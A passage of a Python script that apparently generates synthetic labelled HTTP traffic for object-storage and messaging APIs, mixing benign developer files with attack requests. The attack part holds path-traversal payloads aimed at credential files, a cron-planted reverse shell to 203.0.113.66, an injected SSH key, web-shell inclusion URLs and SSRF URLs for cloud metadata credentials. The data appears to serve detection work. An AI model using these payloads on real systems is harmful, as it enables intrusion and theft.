    }
    location ~ /\.ht { deny all; }
    location = /healthz { return 200 'ok'; add_header Content-Type text/plain; }
}
'''),
    ("github-workflow", ".github/workflows/ci.yml", "application/yaml", r'''name: ci
on:
  push:
    branches: [main]
  pull_request:
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-go@v5
        with: { go-version: '1.22' }
      - run: go test ./... -race -coverprofile=cover.out
      - name: upload coverage
        env:
          AWS_ACCESS_KEY_ID: ${{ secrets.MINIO_ACCESS_KEY }}
          AWS_SECRET_ACCESS_KEY: ${{ secrets.MINIO_SECRET_KEY }}
        run: |
          aws --endpoint-url https://s3.corp.example.net s3 cp cover.out "s3://ci-artifacts/${GITHUB_REPOSITORY}/${GITHUB_SHA}/cover.out"
'''),
    ("dockerfile", "builds/api/Dockerfile", "text/plain", r'''FROM python:3.12-slim AS base
ENV PYTHONDONTWRITEBYTECODE=1 PIP_NO_CACHE_DIR=1
RUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates \
    && rm -rf /var/lib/apt/lists/*
WORKDIR /app
COPY requirements.txt .
RUN pip install -r requirements.txt
COPY . .
RUN useradd -r -u 10001 app && chown -R app /app
USER 10001
HEALTHCHECK CMD curl -fs http://localhost:8000/healthz || exit 1
CMD ["gunicorn", "-b", "0.0.0.0:8000", "app.wsgi:application"]
'''),
    ("python-etl", "jobs/etl/load_orders.py", "text/x-python", r'''import os
import subprocess
import boto3

s3 = boto3.client("s3", endpoint_url=os.environ["S3_ENDPOINT"])


def load(day: str) -> int:
    """Download the day's export and bulk-load it with psql."""
    key = f"exports/orders/{day}.csv"
    s3.download_file("data-lake", key, "/tmp/orders.csv")
    cmd = ["psql", os.environ["DATABASE_URL"], "-c", "\\copy staging.orders FROM '/tmp/orders.csv' CSV HEADER"]
    return subprocess.run(cmd, check=True).returncode


if __name__ == "__main__":
    import sys
    sys.exit(load(sys.argv[1]))
'''),
    ("k8s-cronjob", "manifests/backup-cronjob.yaml", "application/yaml", r'''apiVersion: batch/v1
kind: CronJob
metadata:
  name: pg-backup
spec:
  schedule: "0 2 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: OnFailure
          containers:
            - name: backup
              image: postgres:16
              command: ["/bin/sh", "-c"]
              args:
                - pg_dump "$DATABASE_URL" | gzip > /tmp/db.sql.gz &&
                  mc cp /tmp/db.sql.gz "minio/backups/postgres/$(date +%F).sql.gz"
'''),
    ("wp-config-backup", "site-backups/blog/2024-05-17/wp-config.php", "application/x-httpd-php", r'''<?php
/** The name of the database for WordPress */
define( 'DB_NAME', 'wordpress' );
define( 'DB_USER', 'wp' );
define( 'DB_PASSWORD', getenv('WORDPRESS_DB_PASSWORD') );
define( 'DB_HOST', 'mariadb.blog.svc' );
$table_prefix = 'wp_';
define( 'WP_DEBUG', false );
if ( ! defined( 'ABSPATH' ) ) {
	define( 'ABSPATH', __DIR__ . '/' );
}
require_once ABSPATH . 'wp-settings.php';
'''),
    ("terraform", "infra/modules/bucket/main.tf", "text/plain", r'''resource "minio_s3_bucket" "this" {
  bucket = var.name
  acl    = "private"
}

resource "minio_iam_policy" "rw" {
  name   = "${var.name}-rw"
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{
      Effect   = "Allow"
      Action   = ["s3:*"]
      Resource = ["arn:aws:s3:::${var.name}", "arn:aws:s3:::${var.name}/*"]
    }]
  })
}
'''),
    ("makefile", "src/Makefile", "text/plain", r'''SHELL := /bin/bash
VERSION ?= $(shell git describe --tags --always)

.PHONY: build test clean
build:
	go build -ldflags "-X main.version=$(VERSION)" -o bin/app ./cmd/app

test:
	go test ./... | tee test.log; exit $${PIPESTATUS[0]}

clean:
	rm -rf bin/ *.log
'''),
    ("bashrc", "home/alice/.bashrc", "text/plain", r'''# ~/.bashrc
[ -z "$PS1" ] && return
export PATH="$HOME/.local/bin:$PATH"
alias ll='ls -alF'
alias k='kubectl'
alias gs='git status'
kctx() { kubectl config use-context "$1" && echo "switched to $(kubectl config current-context)"; }
PS1='\u@\h:\w$(__git_ps1 " (%s)")\$ '
'''),
    ("crontab", "configs/cron/backup.crontab", "text/plain", r'''# m h dom mon dow command
15 2 * * * /usr/local/bin/restic backup /srv/data --tag nightly >> /var/log/restic.log 2>&1
0 4 * * 0 /usr/local/bin/restic forget --keep-daily 7 --keep-weekly 4 --prune
*/5 * * * * curl -fsS -m 10 --retry 3 https://hc-ping.example.net/3f1c9a > /dev/null
'''),
    ("js-module", "www/assets/upload.js", "application/javascript", r'''// Upload a file with a presigned URL and render the result list.
export async function upload(file) {
  const res = await fetch(`/api/v1/uploads?name=${encodeURIComponent(file.name)}`, { method: 'POST' });
  const { url } = await res.json();
  await fetch(url, { method: 'PUT', body: file, headers: { 'Content-Type': file.type } });
  const li = document.createElement('li');
  li.textContent = file.name;            // never innerHTML with user data
  document.getElementById('files').appendChild(li);
}
window.addEventListener('load', () => console.log('uploader ready'));
'''),
    ("sql-migration", "migrations/20240517_add_invoice_status.sql", "application/sql", r'''BEGIN;
ALTER TABLE invoices ADD COLUMN status varchar(16) NOT NULL DEFAULT 'open';
UPDATE invoices SET status = 'paid' WHERE paid_at IS NOT NULL;
CREATE INDEX CONCURRENTLY IF NOT EXISTS invoices_status_idx ON invoices (status);
-- rollback: ALTER TABLE invoices DROP COLUMN status;
COMMIT;
'''),
    ("powershell", "scripts/windows/backup.ps1", "text/plain", r'''param([string]$Source = "C:\Data", [string]$Bucket = "backups")
$ErrorActionPreference = "Stop"
$stamp = Get-Date -Format "yyyy-MM-dd"
Compress-Archive -Path "$Source\*" -DestinationPath "$env:TEMP\data-$stamp.zip" -Force
Write-S3Object -BucketName $Bucket -File "$env:TEMP\data-$stamp.zip" -Key "windows/$env:COMPUTERNAME/data-$stamp.zip" -EndpointUrl "https://s3.corp.example.net"
Remove-Item "$env:TEMP\data-$stamp.zip"
'''),
    ("ansible", "playbooks/minio.yml", "application/yaml", r'''- hosts: storage
  become: true
  tasks:
    - name: install minio
      get_url:
        url: https://dl.min.io/server/minio/release/linux-amd64/minio
        dest: /usr/local/bin/minio
        mode: "0755"
    - name: configure env
      template: { src: minio.env.j2, dest: /etc/default/minio }
      notify: restart minio
    - name: open firewall
      shell: firewall-cmd --permanent --add-port=9000/tcp && firewall-cmd --reload
  handlers:
    - name: restart minio
      systemd: { name: minio, state: restarted }
'''),
    ("pom-xml", "src/java/pom.xml", "application/xml", r'''<?xml version="1.0" encoding="UTF-8"?>
<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
         xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd">
  <modelVersion>4.0.0</modelVersion>
  <groupId>net.example</groupId>
  <artifactId>events-consumer</artifactId>
  <version>1.4.2</version>
  <properties><java.version>17</java.version><kafka.version>3.7.0</kafka.version></properties>
  <dependencies>
    <dependency><groupId>org.apache.kafka</groupId><artifactId>kafka-clients</artifactId><version>${kafka.version}</version></dependency>
    <dependency><groupId>org.apache.logging.log4j</groupId><artifactId>log4j-core</artifactId><version>2.23.1</version></dependency>
  </dependencies>
</project>
'''),
    ("helm-template", "charts/worker/templates/deployment.yaml", "application/yaml", r'''apiVersion: apps/v1
kind: Deployment
metadata:
  name: {{ include "worker.fullname" . }}
  labels: {{- include "worker.labels" . | nindent 4 }}
spec:
  replicas: {{ .Values.replicaCount }}
  template:
    spec:
      containers:
        - name: worker
          image: "{{ .Values.image.repository }}:{{ .Values.image.tag | default .Chart.AppVersion }}"
          {{- with .Values.env }}
          env: {{- toYaml . | nindent 12 }}
          {{- end }}
'''),
    ("prometheus-rules", "monitoring/rules/minio.yaml", "application/yaml", r'''groups:
  - name: minio
    rules:
      - alert: MinioDiskOffline
        expr: minio_cluster_drive_offline_total > 0
        for: 5m
        annotations:
          summary: "{{ $value }} drive(s) offline on {{ $labels.instance }}"
      - alert: BucketNearQuota
        expr: (minio_bucket_usage_total_bytes / on(bucket) minio_bucket_quota_total_bytes) > 0.9
'''),
    ("env-example", "repos/api/.env.example", "text/plain", r'''# copy to .env and fill in
DATABASE_URL=postgres://app:changeme@localhost:5432/app?sslmode=disable
S3_ENDPOINT=http://localhost:9000
S3_BUCKET=uploads
KAFKA_BROKERS=localhost:9092
LOG_LEVEL=debug
'''),
    ("jupyter-notebook", "notebooks/churn-analysis.ipynb", "application/x-ipynb+json", jdump({
        "cells": [{"cell_type": "code", "metadata": {}, "execution_count": 3, "outputs": [],
                   "source": ["import pandas as pd\n", "df = pd.read_sql(\"SELECT id, plan, churned FROM customers WHERE created_at > '2023-01-01'\", conn)\n",
                              "df.groupby('plan')['churned'].mean()"]},
                  {"cell_type": "markdown", "metadata": {}, "source": ["## Results\n", "Churn is <b>higher</b> on the `basic` plan."]}],
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}}, "nbformat": 4, "nbformat_minor": 5}, pretty=True)),
    ("java-stacktrace-log", "logs/2024/05/17/orders-api-error.log", "text/plain", r'''2024-05-17T09:12:44.120Z ERROR [orders-api,6f1c2a] o.a.c.c.C.[.[.[/].[dispatcherServlet] - Servlet.service() threw exception
java.lang.IllegalStateException: Connection pool shut down
	at org.apache.http.util.Asserts.check(Asserts.java:34)
	at org.apache.http.impl.conn.PoolingHttpClientConnectionManager.requestConnection(PoolingHttpClientConnectionManager.java:269)
	at com.amazonaws.http.AmazonHttpClient$RequestExecutor.executeHelper(AmazonHttpClient.java:1346)
	at net.example.orders.storage.S3Archiver.archive(S3Archiver.java:88)
Caused by: java.io.IOException: Broken pipe
	... 42 common frames omitted
'''),
    ("c-snippet", "src/native/ringbuf.c", "text/x-c", r'''#include <stdint.h>
#include <string.h>

/* single-producer single-consumer ring buffer */
int rb_push(struct ring *r, const void *buf, size_t len) {
    if (len > r->cap - (r->head - r->tail)) return -1;
    size_t off = r->head & (r->cap - 1);
    memcpy(r->data + off, buf, len);
    r->head += len;
    return 0;
}
'''),
]


def benign_dev_content():
    # 26 documents stored as objects
    clients = ["gov2", "boto3", "cli", "minio", "mc", "rclone"]
    for i, (name, key, ctype, text) in enumerate(DEV_DOCS):
        bucket = pick(["gitlab-artifacts", "backups", "static-assets", "ml-artifacts", "data-lake", "customer-exports"])
        host, path = s3_loc(bucket, key)
        if i % 9 == 4:
            # browser upload through a presigned URL
            date = amz_date()
            params = [("X-Amz-Algorithm", "AWS4-HMAC-SHA256"),
                      ("X-Amz-Credential", "%s/%s/us-east-1/s3/aws4_request" % (pick(ACCESS_KEYS), date[:8])),
                      ("X-Amz-Date", date), ("X-Amz-Expires", "900"), ("X-Amz-SignedHeaders", "content-type;host"),
                      ("x-id", "PutObject"), ("X-Amz-Signature", hexs(64))]
            hdrs = [["Host", host], ["User-Agent", pick(UA_BROWSER)], ["Accept", "*/*"], ["Content-Type", ctype],
                    ["Origin", "https://app.example.net"], ["Referer", "https://app.example.net/projects/42/files"],
                    ["Sec-Fetch-Mode", "cors"], ["Sec-Fetch-Site", "cross-site"]]
            devc(name, "PUT", path + "?" + qs(params), hdrs, text)
        elif i % 9 == 7:
            hdrs = s3_headers("gov2", host, body=text, ctype="application/octet-stream")
            devc(name, "PUT", path + "?partNumber=1&uploadId=%s" % q(b64(uuid4()).rstrip("=")), hdrs, text)
        else:
            extra = [["x-amz-meta-source", pick(["git@git.example.net:platform/%s.git" % pick(["api", "infra"]), "ci-runner", "laptop-sync"])]]
            if R.random() < 0.4:
                extra.append(["Content-MD5", md5b64(text)])
            devc(name, "PUT", path, s3_headers(clients[i % len(clients)], host, body=text, ctype=ctype, extra=extra), text)

    # 24 messages that carry code
    msgs = [
        ("chat-sql-snippet", "Can someone review this? `SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.status = 'failed' AND o.created_at > now() - interval '1 day';`"),
        ("chat-shell-snippet", "to clean old logs run:\n```\nfind /var/log/app -name '*.log' -mtime +7 -exec rm {} \\;\n```\nthen `systemctl restart app`"),
        ("chat-html-snippet", "The banner should be `<div class=\"alert\"><strong>Heads up!</strong> maintenance at 22:00 UTC</div>` on the status page"),
        ("chat-js-snippet", "fix is `el.textContent = msg` instead of `el.innerHTML = msg` in notify.js line 42 (avoids XSS)"),
        ("chat-python-snippet", "```python\nwith open('report.csv') as f:\n    rows = [r.split(',') for r in f]\nprint(len(rows))\n```"),
        ("ci-log-event", "+ make test\ngo test ./... -count=1\nok  \tgithub.com/acme/api/internal/store\t2.113s\n--- FAIL: TestUpload (0.01s)\n    upload_test.go:41: expected 200, got 403\nFAIL\nmake: *** [Makefile:12: test] Error 1"),
        ("code-review-comment", "nit: prefer parameterised queries: cursor.execute(\"SELECT * FROM users WHERE email = %s\", (email,)) rather than string formatting"),
        ("incident-note", "root cause: a `DELETE FROM sessions` without WHERE in migration 0042; restored from snapshot snap-2024.05.16. Follow-up: add `--dry-run` to scripts/cleanup.sh"),
        ("jinja-template-msg", "Template updated: Hello {{ name }}, your order {{ order.id }} ships {% if express %}tomorrow{% else %}in 3-5 days{% endif %}."),
        ("github-push-diff", "diff --git a/app/db.py b/app/db.py\n@@ -10,7 +10,7 @@\n-    q = \"SELECT * FROM t WHERE id=\" + id\n+    q = \"SELECT * FROM t WHERE id = %s\"\n+    cur.execute(q, (id,))"),
        ("yaml-config-msg", "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: app\ndata:\n  LOG_FORMAT: '%(asctime)s %(levelname)s %(message)s'\n  START_CMD: 'gunicorn -w 4 app:app'"),
        ("runbook-snippet", "If the consumer lags: kubectl -n kafka exec -it kafka-0 -- bin/kafka-consumer-groups.sh --bootstrap-server localhost:9092 --describe --group etl-loader | grep -v '^$'"),
    ]
    modes = ["kafka", "rabbit", "dapr-state", "cloudevent", "nats", "pulsar"]
    idx = 0
    for rnd in range(2):
        for name, text in msgs:
            mode = modes[idx % len(modes)]
            idx += 1
            author = pick(FIRST)
            if mode == "kafka":
                body = jdump({"records": [{"key": uuid4(), "value": {"channel": pick(["#dev", "#backend", "#sre"]), "author": author,
                                                                     "text": text, "ts": iso_time()}}]})
                devc(name, "POST", "/topics/%s" % pick(["chat-messages", "ci.events", "code-review"]),
                     api_headers(pick(KAFKA_REST), "application/vnd.kafka.json.v2+json", "application/vnd.kafka.v2+json"), body)
            elif mode == "rabbit":
                body = jdump({"properties": {"content_type": "application/json"}, "routing_key": pick(["notifications.push", "ci.results"]),
                              "payload": jdump({"title": name.replace("-", " "), "body": text}), "payload_encoding": "string"})
                devc(name, "POST", "/api/exchanges/%s/amq.default/publish" % pick(VHOSTS), rabbit_headers(pick(RABBIT), "application/json"), body)
            elif mode == "dapr-state":
                body = jdump([{"key": "snippet-%s" % hexs(8), "value": {"lang": pick(["sql", "bash", "python", "html"]), "code": text,
                                                                        "owner": author}}])
                devc(name, "POST", "/v1.0/state/%s" % pick(["statestore", "snippets"]), api_headers(pick(DAPR), "application/json",
                                                                                                   ua="dapr-sdk-python/1.13.0"), body)
            elif mode == "cloudevent":
                body = jdump({"specversion": "1.0", "type": "com.github.push", "source": "https://github.com/acme/platform",
                              "id": uuid4(), "datacontenttype": "application/json", "data": {"pusher": author, "message": text}})
                devc(name, "POST", "/platform/default", [["Host", pick(KN_BROKERS)], ["User-Agent", "Go-http-client/1.1"],
                                                         ["Content-Type", "application/cloudevents+json"]], body)
            elif mode == "nats":
                body = jdump({"from": author, "text": text})
                devc(name, "POST", "/v1/publish/chat.room.dev", api_headers(pick(NATS_BRIDGE), "application/json", auth=bearer()), body)
            else:
                body = jdump({"producerName": "rest-chat", "messages": [{"key": uuid4(), "payload": b64(text) if rnd else text,
                                                                         "properties": {"encoding": "base64" if rnd else "utf8"}}]})
                devc(name, "POST", "/topics/persistent/public/default/%s" % pick(["chat", "code-review"]),
                     api_headers(pick(PULSAR), "application/json", auth=bearer(), ua="Pulsar-Java-v3.2.2"), body)


# ===========================================================================
# ATTACKS
# ===========================================================================

def enc_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def enc_some(s, chars):
    return "".join(("%%%02X" % ord(c)) if c in chars else c for c in s)


def rand_case(s):
    return "".join(c.upper() if R.random() < 0.5 else c.lower() for c in s)


# ---------------------------------------------------------------------------
# lfi: path traversal through keys, prefixes, copy sources, file names
# ---------------------------------------------------------------------------

LFI_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "var/run/secrets/kubernetes.io/serviceaccount/token",
               "root/.aws/credentials", "proc/self/cmdline", "etc/kubernetes/admin.conf", "root/.ssh/id_rsa",
               "proc/1/environ", "home/minio/.minio/certs/private.key", "etc/group", "windows/win.ini",
               "var/lib/kubelet/pods", "etc/ssl/private/server.key", "proc/self/fd/0"]


def traversal(depth, style):
    """A ../ sequence of the given depth in one of many spellings (as it appears in a URI)."""
    seqs = {
        "plain": "../",
        "enc-slash": "..%2f",
        "enc-all": "%2e%2e%2f",
        "enc-dots": "%2e%2e/",
        "double": "%252e%252e%252f",
        "overlong": "..%c0%af",
        "overlong-dots": "%c0%ae%c0%ae/",
        "strip": "....//",
        "backslash": "..%5c",
        "tomcat": "..;/",
        "unicode": "%u002e%u002e%u2215",
        "fullwidth": "%ef%bc%8e%ef%bc%8e/",
        "mixed": pick(["../", "..%2F", "%2E%2E/", ".%2e/"]),
        "dotslash": "./../",
        "raw-backslash": "..\\",
    }
    if style == "mixed":
        return "".join(pick(["../", "..%2F", "%2E%2E/", ".%2e/", "%2e./"]) for _ in range(depth))
    return seqs[style] * depth


LFI_STYLES = ["plain", "enc-slash", "enc-all", "enc-dots", "double", "overlong", "overlong-dots", "strip", "backslash",
              "tomcat", "unicode", "fullwidth", "mixed", "dotslash", "raw-backslash"]


def lfi_target(style):
    t = pick(LFI_TARGETS)
    if t.startswith("windows"):
        t = pick(["windows/win.ini", "Windows/System32/drivers/etc/hosts", "boot.ini"])
        if style in ("backslash", "raw-backslash"):
            t = t.replace("/", "\\")
    return t


def gen_lfi(n):
    points = ["s3-get-key", "s3-list-prefix", "copy-source", "restic-rest", "filer-get", "dapr-localstorage",
              "delete-objects-xml", "put-key-write", "preview-app", "es-fs-repo", "console-object-path", "seaweed-filer-query"]
    for i in range(n):
        point = points[i % len(points)]
        style = LFI_STYLES[(i * 7) % len(LFI_STYLES)]
        depth = R.randint(3, 9)
        tgt = lfi_target(style)
        trav = traversal(depth, style)
        bucket = pick(BUCKETS)
        if point == "s3-get-key":
            host = pick(S3_HOSTS)
            uri = "/%s/%s%s" % (bucket, pick(["", "public/", "media/2024/"]), trav + tgt)
            attack("lfi", "s3-key-traversal", "GET", uri, s3_headers(pick(["minio", "boto3", "rclone"]), host))
        elif point == "s3-list-prefix":
            host, path = s3_loc(bucket)
            raw = traversal(depth, "plain") + tgt.rsplit("/", 1)[0] + "/"
            val = q(raw) if style in ("plain", "mixed", "strip") else trav + tgt.rsplit("/", 1)[0] + "/"
            attack("lfi", "list-prefix-traversal", "GET", path + "?list-type=2&delimiter=%%2F&prefix=%s" % val,
                   s3_headers(pick(["gov2", "mc"]), host))
        elif point == "copy-source":
            host, path = s3_loc(bucket, "stolen/%s.txt" % hexs(6))
            src = "/%s/%s%s" % (bucket, trav if style != "double" else traversal(depth, "enc-slash"), tgt)
            attack("lfi", "copy-source-traversal", "PUT", path, s3_headers(pick(["gov2", "boto3", "mc"]), host,
                                                                           extra=[["x-amz-copy-source", src]]))
        elif point == "restic-rest":
            host = "restic-rest-server.backup.svc.cluster.local:8000"
            uri = "/%s/%s/%s" % (pick(["prod", "nas01"]), pick(["data", "keys", "snapshots", "index"]), trav + tgt)
            attack("lfi", "restic-rest-traversal", "GET", uri,
                   [["Host", host], ["User-Agent", "restic/0.16.4 (linux/amd64) go1.21.6"], ["Accept", "*/*"],
                    ["Authorization", basic("prod", hexs(12))], ["Accept-Encoding", "gzip"]])
        elif point == "filer-get":
            host = "seaweedfs-filer.seaweedfs.svc.cluster.local:8888"
            uri = "/buckets/%s/%s" % (bucket, trav + tgt)
            attack("lfi", "filer-traversal", "GET", uri, [["Host", host], ["User-Agent", pick(UA_HTTP)], ["Accept", "*/*"]])
        elif point == "dapr-localstorage":
            fname = traversal(depth, "plain") + tgt
            if style in ("backslash", "raw-backslash"):
                fname = "..\\" * depth + tgt.replace("/", "\\")
            elif style == "dotslash":
                fname = "./" + "../" * depth + tgt
            elif style == "strip":
                fname = "....//" * depth + tgt
            body = jdump({"operation": pick(["get", "delete"]), "metadata": {"fileName": fname}})
            attack("lfi", "dapr-localstorage-traversal", "POST", "/v1.0/bindings/%s" % pick(["localstorage", "files", "upload-store"]),
                   api_headers(pick(DAPR), "application/json", ua=pick(["axios/1.6.8", "Go-http-client/1.1"])), body)
        elif point == "delete-objects-xml":
            host, path = s3_loc(bucket)
            key = traversal(depth, "plain") + pick(["etc/ssl/private", "var/lib/minio/.minio.sys/config/config.json",
                                                    "data/.minio.sys/iam/users/admin/identity.json"])
            body = '<Delete xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Object><Key>%s</Key></Object><Quiet>true</Quiet></Delete>' % key
            attack("lfi", "delete-objects-traversal", "POST", path + "?delete=",
                   s3_headers("boto3", host, body=body, ctype="application/xml", extra=[["Content-MD5", md5b64(body)]]), body)
        elif point == "put-key-write":
            host = pick(S3_HOSTS)
            dest = pick(["etc/cron.d/backdoor", "root/.ssh/authorized_keys", "var/spool/cron/crontabs/root", "etc/ld.so.preload"])
            body = pick(["* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'\n",
                         "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK%s attacker@kali\n" % b64(hexs(24))[:40],
                         "/tmp/.x/libhook.so\n"])
            uri = "/%s/%s%s" % (bucket, trav, dest)
            attack("lfi", "put-key-traversal-write", "PUT", uri, s3_headers(pick(["minio", "rclone"]), host, body=body,
                                                                            ctype="application/octet-stream"), body)
        elif point == "preview-app":
            host = pick(["files.corp.example.net", "storage-portal.apps.example.net"])
            param = pick(["key", "path", "file", "object", "name"])
            val = trav + tgt if style not in ("plain", "raw-backslash") else q(trav + tgt, safe="")
            if style == "plain":
                val = trav + tgt
            uri = "/api/v1/%s?bucket=%s&%s=%s" % (pick(["preview", "download", "files/content", "thumbnail"]), bucket, param, val)
            attack("lfi", "portal-param-traversal", "GET", uri, browser_headers(host, "/files/%s" % bucket, True))
        elif point == "es-fs-repo":
            body = jdump({"type": "fs", "settings": {"location": pick(["../../../../../../etc", "/usr/share/elasticsearch/data/../../../../../../root",
                                                                       "..\\..\\..\\..\\windows\\system32", "repo/../../../../../../../proc/self"]),
                                                     "compress": True}})
            attack("lfi", "es-fs-repo-traversal", "PUT", "/_snapshot/%s" % pick(["local_fs", "backup"]),
                   api_headers(pick(ES), "application/json", auth=basic("elastic", hexs(12)), ua="curl/8.5.0"), body)
        elif point == "console-object-path":
            host = pick(CONSOLE_HOSTS)
            uri = "/api/v1/buckets/%s/objects/%s/../%s" % (bucket, "download", trav + tgt)
            attack("lfi", "console-path-traversal", "GET", uri, browser_headers(host, "/browser/%s" % bucket, True))
        else:
            host = "seaweedfs-filer.seaweedfs.svc.cluster.local:8888"
            uri = "/?%s" % pick(["path=", "dir=", "lastFileName="]) + trav + tgt
            attack("lfi", "filer-query-traversal", "GET", uri, [["Host", host], ["User-Agent", pick(UA_HTTP)],
                                                              ["Accept", "application/json"]])


# ---------------------------------------------------------------------------
# rfi: remote file inclusion into PHP storage front-ends
# ---------------------------------------------------------------------------

RFI_URLS = ["http://203.0.113.45/shells/r57.txt?", "https://pastebin.com/raw/8fJ2kQx1?", "ftp://198.51.100.23/pub/inc.php%00",
            "http://evil.example.org/c99.txt%3F", "hTtPs://cdn-update.example.org/wso.php?x=", "http:%2F%2F203.0.113.9%2Fbackdoor.txt%3F",
            "http://3405803785/shell.txt?", "\\\\198.51.100.7\\share\\shell.php", "http://attacker.example.com:8080/inc/config.php%00",
            "https://raw.githubusercontent.com/evil/kit/main/shell.txt?", "%68%74%74%70%3a%2f%2f203.0.113.45%2fx.txt%3f",
            "http://203.0.113.45/shell.jpg?%26"]


def gen_rfi(n):
    apps = [("/filemanager/index.php", "lang"), ("/s3browser/index.php", "page"), ("/tinyfilemanager.php", "p"),
            ("/elfinder/php/connector.minimal.php", "plugin"), ("/minio-php-gallery/view.php", "template"),
            ("/backup-portal/index.php", "module"), ("/upload/handler.php", "include_path"), ("/admin/s3config.php", "conf")]
    for i in range(n):
        path, param = apps[i % len(apps)]
        url = RFI_URLS[i % len(RFI_URLS)]
        host = pick(["files.corp.example.net", "storage-portal.apps.example.net", "gallery.media.svc.cluster.local"])
        if i % 4 == 3:
            body = "%s=%s&bucket=%s&action=view" % (param, url, pick(BUCKETS))
            attack("rfi", "php-portal-include-post", "POST", path, browser_headers(host, path, False, ctype="application/x-www-form-urlencoded"), body)
        else:
            uri = "%s?bucket=%s&%s=%s" % (path, pick(BUCKETS), param, url)
            attack("rfi", "php-portal-include", "GET", uri, [["Host", host], ["User-Agent", pick(UA_BROWSER + ["curl/8.5.0"])],
                                                            ["Accept", "*/*"]])


# ---------------------------------------------------------------------------
# ssrf: webhook / replication / shovel / schema / snapshot / fetcher targets
# ---------------------------------------------------------------------------

SSRF_URLS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/iam/",
    "http://0251.0376.0251.0376/latest/api/token",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://trusted.example.net@169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:2379/v2/keys/?recursive=true",
    "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "http://localhost:10255/pods",
    "http://127.1:8500/v1/agent/self",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2428%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%0A%0A%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "file:///etc/passwd",
    "file:///var/run/secrets/kubernetes.io/serviceaccount/token",
    "http://169.254.170.2/v2/credentials/" + "8f1c2d3e-1111-4a2b-9c3d-0123456789ab",
    "http://0/minio/admin/v3/info",
    "http://[::]:9000/minio/admin/v3/list-users",
    "http://localhost:15672/api/definitions",
    "ldap://127.0.0.1:389/dc=corp",
    "http://192.168.0.1%2523@example.net/",
    "HTTP://169.254.169.254/latest/meta-data/",
    "http://instance-data/latest/meta-data/",
    "jar:http://127.0.0.1:8080/x.jar!/",
    "netdoc:///etc/passwd",
]


def gen_ssrf(n):
    points = ["console-webhook", "remote-bucket", "rgw-topic", "rabbit-shovel", "schema-ref", "es-url-repo", "import-fetch",
              "dapr-invoke", "pulsar-function-url", "tier-endpoint", "thumbnail-src", "subscription-sink"]
    for i in range(n):
        point = points[i % len(points)]
        url = SSRF_URLS[(i * 11) % len(SSRF_URLS)]
        if point == "console-webhook":
            host = pick(CONSOLE_HOSTS)
            body = jdump({"service": "webhook", "account_id": "x%s" % hexs(4),
                          "properties": {"endpoint": url, "auth_token": "", "queue_limit": "10000"}})
            attack("ssrf", "console-webhook-target", "POST", "/api/v1/admin/notification_endpoints",
                   browser_headers(host, "/settings/notifications/add/webhook", True, ctype="application/json"), body)
        elif point == "remote-bucket":
            host = pick(CONSOLE_HOSTS)
            body = jdump({"accessKey": "a", "secretKey": "b" * 8, "sourceBucket": pick(BUCKETS), "targetURL": url,
                          "targetBucket": "x", "region": "", "syncMode": "async", "bandwidth": 0, "healthCheckPeriod": 60})
            attack("ssrf", "replication-target", "POST", "/api/v1/remote-buckets",
                   browser_headers(host, "/buckets/x/admin/replication", True, ctype="application/json"), body)
        elif point == "rgw-topic":
            host = pick(["rook-ceph-rgw-objectstore.rook-ceph.svc:80", "rgw.ceph.internal.example.net"])
            body = qs([("Action", "CreateTopic"), ("Name", "t%s" % hexs(4)), ("Attributes.entry.1.key", "push-endpoint"),
                       ("Attributes.entry.1.value", urllib.parse.unquote(url) if "gopher" not in url else url)])
            attack("ssrf", "rgw-push-endpoint", "POST", "/", s3_headers("boto3", host, body=body,
                                                                      ctype="application/x-www-form-urlencoded; charset=utf-8"), body)
        elif point == "rabbit-shovel":
            host = pick(RABBIT)
            tgt = pick(["amqp://guest:guest@169.254.169.254:80/%2F", "amqp://169.254.169.254:80", "amqp://127.0.0.1:6379/",
                        "amqp://[::ffff:169.254.169.254]:80/"])
            body = jdump({"value": {"src-protocol": "amqp091", "src-uri": "amqp://", "src-queue": "orders.created",
                                    "dest-protocol": "amqp091", "dest-uri": tgt, "dest-queue": "x"}})
            attack("ssrf", "shovel-dest-uri", "PUT", "/api/parameters/shovel/%2F/s" + hexs(4), rabbit_headers(host, "application/json"), body)
        elif point == "schema-ref":
            host = pick(SCHEMA_REG)
            schema = jdump({"$schema": "http://json-schema.org/draft-07/schema#", "type": "object",
                            "properties": {"p": {"$ref": url}}})
            body = jdump({"schemaType": "JSON", "schema": schema})
            ct = "application/vnd.schemaregistry.v1+json"
            attack("ssrf", "schema-remote-ref", "POST", "/subjects/%s-value/versions" % pick(TOPICS[:-1]), api_headers(host, ct, ct), body)
        elif point == "es-url-repo":
